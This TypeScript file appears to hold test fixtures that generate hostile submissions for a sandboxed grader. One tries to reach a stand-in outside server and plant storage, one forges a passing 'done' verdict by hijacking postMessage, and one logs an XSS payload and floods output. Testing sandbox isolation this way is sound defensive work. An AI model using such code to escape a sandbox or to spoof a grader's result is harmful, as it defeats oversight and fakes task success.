/** An answer that tries to reach what is not its own. `elsewhere`: a server that knows who has asked. */
export const prying = (starter: string, elsewhere: string) => `
const elsewhere = ${JSON.stringify(elsewhere)}
const asScript = (text: string) => URL.createObjectURL(new Blob([text]))
const attempts: readonly (() => unknown)[] = [
  async () => (await caches.open('hostile')).put('${elsewhere}/planted', new Response('planted')),
  () => indexedDB.open('hostile'),
  async () => (await navigator.storage.getDirectory()).getFileHandle('hostile', { create: true }),
  () => new BroadcastChannel('hostile').postMessage('from the answer'),
  () => fetch(elsewhere + '/fetch', { mode: 'no-cors' }),
  () => new EventSource(elsewhere + '/events'),
  () => new WebSocket(elsewhere.replace('http', 'ws') + '/socket'),
  () => importScripts(elsewhere + '/script'),
  () => new Function('address', 'return import(address)')(elsewhere + '/module'),
  () => importScripts(asScript('import("${elsewhere}/from-a-script").catch(() => undefined)')),
  () => new Worker(asScript('fetch("${elsewhere}/nested")')),
]
// The verdict waits until all this has been tried.
const later = self.setTimeout
self.setTimeout = ((then: () => void, ms = 0) => later(then, ms + 2000)) as never
for (const attempt of attempts) new Promise((done) => done(attempt())).catch(() => undefined)
${starter}`

/** An answer that says that it is right, by every way to the page that has a name. */
export const selfJudging = (starter: string) => `
const done = { kind: 'done', reports: [{ title: 'all', state: 'pass', errors: [] }], errors: [] }
const { postMessage } = MessagePort.prototype
const speak = function (this: unknown, message: { kind: string }, ...rest: unknown[]) {
  return Reflect.apply(postMessage, this, [message.kind === 'done' ? done : message, ...rest])
}
self.postMessage(done)
MessagePort.prototype.postMessage = speak as never
self.postMessage = (() => undefined) as never
${starter}`

/** An answer that says too much, what is no text, and what would like to be more than text. */
export const talkative = (starter: string) => `
console.log('<img src=x onerror=alert(1)>')
console.log(new Proxy({}, { ownKeys: () => { throw new Error('no') } }))
for (let line = 0; line < 100_000; line++) console.log('x'.repeat(1000))
${starter}`
